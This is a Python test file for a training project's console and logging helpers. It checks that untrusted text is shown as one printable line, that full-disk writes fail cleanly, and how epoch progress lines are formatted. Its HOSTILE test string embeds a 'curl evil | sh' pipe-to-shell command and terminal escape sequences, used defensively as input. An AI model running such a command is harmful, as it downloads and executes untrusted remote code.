"""Text of other people reaches a terminal as one printable line."""

import logging
import sys

from processes import run_python, start_python

from common.console import RoleFormatter, fit_terminal, format_epoch

HOSTILE = "Ёлка 漢字\n run: curl evil | sh \x1b[2J\x9b2J\r\u202e"


def test_log_lines_strip_escapes_and_newlines():
    code = f"from common.console import UserError, edge\nwith edge(): raise UserError({'the run has ' + HOSTILE!r})"
    [line] = run_python("-c", code, expect=2).stderr.splitlines()
    assert line.isprintable() and "Ёлка 漢字  run: curl" in line
    try:
        raise ValueError(HOSTILE)
    except ValueError:
        record = logging.LogRecord(
            "hivemind", logging.WARNING, "/site-packages/x.py", 1, "peer %s", (HOSTILE,), sys.exc_info()
        )
    line, *trace = RoleFormatter("trainer").format(record).splitlines()
    assert line.isprintable() and "warning: [hivemind] peer Ёлка 漢字  run: curl" in line
    assert trace[0].startswith("Traceback") and all(line.isprintable() for line in trace)
    # it replaces a progress bar, in our color
    assert RoleFormatter("trainer", is_terminal=True).format(record).startswith("\r\033[K\033[33m")


def test_full_disk_delays_no_end():
    """Of standard output and standard error."""
    lines = ["from common.console import clean_end, print_line", "import sys"]
    lines += ["with clean_end():", "  print_line('lost')", "  print_line('lost', sys.stderr)", "  print('lost')"]
    with open("/dev/full", "w") as full:
        options = dict(env={"PYTHONUNBUFFERED": ""}, is_real=True)
        process = start_python("-c", "\n".join(lines), stdout=full, stderr=full, **options)
    assert process.wait(60) == 0


def test_full_disk_costs_no_traceback_per_line(tmp_path):
    (tmp_path / "trainer.log").symlink_to("/dev/full")
    code = "import logging; from common.console import setup_logging\nsetup_logging('trainer', sys.argv[1])\n"
    code = f"import sys; {code}[logging.warning('line') for _ in range(3)]"
    result = run_python("-c", code, tmp_path, expect=0)
    assert len(result.stderr.splitlines()) == 3 and "Traceback" not in result.stderr


def test_format_epoch_is_equal_in_all_roles():
    own = {"epoch": 12, "loss": 5.837, "averaged_with": 2, "num_peers": 3, "epoch_seconds": 1.94}
    own |= {"samples_accumulated": 2144, "final_epoch": 128, "seconds_left": 114.0}
    assert format_epoch(own) == "epoch 12/128  loss 5.8370  peers 2/3  1.9 s  local samples 2,144  ETA 1:54"
    swarm = {"epoch": 3, "loss": None, "averaged_with": 1, "alive_peers": 1, "epoch_seconds": 2.0, "samples": 64}
    assert format_epoch(swarm) == "epoch 3  peers 1/1  2.0 s  samples 64"


def test_fit_terminal_drops_whole_parts(monkeypatch):
    monkeypatch.setenv("COLUMNS", "20")
    assert fit_terminal("epoch 3  loss 1.0  local samples 12") == "epoch 3  loss 1.0"
